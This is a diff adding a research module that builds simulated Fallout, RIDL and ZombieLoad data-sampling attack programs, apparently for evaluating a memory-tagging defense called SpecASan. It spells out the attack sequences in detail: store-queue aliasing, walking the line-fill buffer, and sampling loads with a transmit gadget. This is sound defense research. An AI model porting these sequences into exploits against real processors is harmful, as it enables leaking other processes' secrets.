@@ -1,0 +1,147 @@
+"""Microarchitectural Data Sampling: Fallout, RIDL, ZombieLoad (§4.1).
+
+These attacks never mispredict a branch — the leaking load is bound to
+commit, which is exactly why delay-USE (STT) and hide-TRANSMIT
+(GhostMinion) defenses miss them.  They sample *in-flight* data:
+
+- **Fallout** exploits loosenet partial-address store-to-load forwarding:
+  a load whose page offset aliases an in-flight store transiently receives
+  the store's data before the full-address check machine-clears.
+- **RIDL / ZombieLoad** sample stale Line-Fill Buffer content: a
+  line-crossing (microcode-assisted) load that hits an LFB entry whose fill
+  is still in flight receives the *previous occupant's* bytes — here, the
+  victim's secret line.
+
+SpecASan stops all three by tagging the buffers themselves (§3.3.2/3.3.3):
+forwarding requires matching address keys, and LFB hits are checked against
+the allocation tags stored in the entry.
+"""
+
+from __future__ import annotations
+
+from repro.attacks.common import (
+    AttackProgram,
+    emit_transmit,
+    make_probe_array,
+    PROBE_BASE,
+    SECRET_BASE,
+    slow_cell_segment,
+    SLOW_CELLS,
+    TAG_SECRET,
+)
+from repro.isa.builder import ProgramBuilder
+from repro.mte.tags import with_key
+
+SECRET_VALUE = 11
+#: Fallout: the victim's store slot and the attacker's 4KB-aliased address.
+#: Both sit at page offset 0x40 so the (page-aligned) probe accesses cannot
+#: themselves loosenet-alias the victim store.
+VICTIM_SLOT = 0x08040
+ALIASED_ADDR = 0x09040
+#: RIDL/ZombieLoad: where the sampling loads land (fresh, never-cached).
+SAMPLE_LINE_RIDL = 0x0C0000
+SAMPLE_LINE_ZL = 0x0D0000
+#: Dummy lines that walk the LFB allocator back to the victim's entry.
+DUMMY_BASE = 0x0E0000
+#: Byte offset of the secret within its cache line — high enough that an
+#: 8-byte load from it crosses the line boundary (the assist trigger).
+SECRET_LINE_OFFSET = 60
+
+VARIANTS = {"fallout": ("classic",), "ridl": ("classic",),
+            "zombieload": ("classic",)}
+
+
+def _plant_line_secret(b: ProgramBuilder) -> None:
+    """A full secret line with the secret byte at the crossing offset."""
+    line = bytearray(64)
+    line[SECRET_LINE_OFFSET] = SECRET_VALUE
+    b.bytes_segment("secret", SECRET_BASE, bytes(line), tag=TAG_SECRET)
+
+
+def build_fallout(variant: str = "classic") -> AttackProgram:
+    """Fallout: sample an in-flight store through loosenet aliasing."""
+    b = ProgramBuilder()
+    line = bytearray(16)
+    line[0] = SECRET_VALUE
+    b.bytes_segment("secret", SECRET_BASE, bytes(line), tag=TAG_SECRET)
+    b.zero_segment("victim_slot", VICTIM_SLOT, 16, tag=TAG_SECRET)
+    b.zero_segment("aliased", ALIASED_ADDR, 16)
+    make_probe_array(b)
+    slow_cell_segment(b)
+
+    # Victim reads its secret (legitimately) and is about to store it.
+    b.li("X20", with_key(SECRET_BASE, TAG_SECRET))
+    b.ldrb("X21", "X20", note="victim holds the secret in a register")
+    b.sb(note="wait for the warm-up fill")
+
+    b.li("X3", PROBE_BASE)
+    # An older slow load keeps the ROB head busy, so the victim store sits
+    # in the store queue (uncommitted) while the attacker load runs.
+    b.li("X15", SLOW_CELLS)
+    b.ldr("X19", "X15", note="commit blocker (DRAM round trip)")
+
+    b.li("X23", with_key(VICTIM_SLOT, TAG_SECRET))
+    b.strb("X21", "X23", note="victim store: secret enters the store queue")
+    b.li("X22", ALIASED_ADDR, note="attacker address: same page offset")
+    b.ldrb("X5", "X22", note="loosenet match forwards the victim's data")
+    emit_transmit(b, "X5", "X3")
+    b.halt()
+
+    return AttackProgram(
+        name="fallout", variant=variant,
+        builder_program=b.build(),
+        secret_value=SECRET_VALUE, secret_address=SECRET_BASE,
+        benign_values=[0],
+        description="store-buffer sampling via partial-address forwarding")
+
+
+def _build_lfb_sampler(name: str, sample_line: int, dummy_salt: int) -> AttackProgram:
+    """Shared RIDL/ZombieLoad skeleton: walk the LFB, then sample."""
+    b = ProgramBuilder()
+    _plant_line_secret(b)
+    make_probe_array(b)
+
+    b.li("X3", PROBE_BASE)
+    # 1. Victim pulls its secret line through the LFB (entry 0).
+    b.li("X20", with_key(SECRET_BASE, TAG_SECRET))
+    b.ldrb("X21", "X20", note="victim load: secret line transits the LFB")
+
+    # 2. Fifteen dummy misses advance the LFB allocator so the *next* fill
+    #    reuses the victim's (now stale) entry.
+    for index in range(15):
+        b.li("X16", DUMMY_BASE + dummy_salt * 0x40000 + index * 4096)
+        b.ldr("X17", "X16", note="LFB-walking dummy miss")
+
+    # 3. Delay until the victim fill has landed: a dependency chain on the
+    #    victim's value gates the sampler's address computation.
+    b.udiv("X13", "X21", "X21", note="delay chain (waits for the fill)")
+    b.udiv("X13", "X13", "X13")
+    b.and_("X13", "X13", "XZR", note="collapse to zero, keep the dependency")
+
+    # 4. The sampler: a line-crossing (assisted) load pair on a fresh line.
+    #    The first touch allocates the stale entry; the second samples it.
+    b.li("X22", sample_line + SECRET_LINE_OFFSET)
+    b.add("X22", "X22", "X13")
+    b.ldr("X18", "X22", note="allocate the (stale) LFB entry")
+    b.ldr("X5", "X22", note="SAMPLE: crossing load reads stale LFB bytes")
+    b.and_("X5", "X5", imm=0xFF)
+    emit_transmit(b, "X5", "X3")
+    b.halt()
+
+    program = b.build()
+    return AttackProgram(
+        name=name, variant="classic",
+        builder_program=program,
+        secret_value=SECRET_VALUE, secret_address=SECRET_BASE,
+        benign_values=[0],
+        description="LFB sampling via line-crossing assisted loads")
+
+
+def build_ridl(variant: str = "classic") -> AttackProgram:
+    """RIDL: rogue in-flight data load from the LFB."""
+    return _build_lfb_sampler("ridl", SAMPLE_LINE_RIDL, dummy_salt=0)
+
+
+def build_zombieload(variant: str = "classic") -> AttackProgram:
+    """ZombieLoad: the line-crossing microcode-assist flavour."""
+    return _build_lfb_sampler("zombieload", SAMPLE_LINE_ZL, dummy_salt=1)
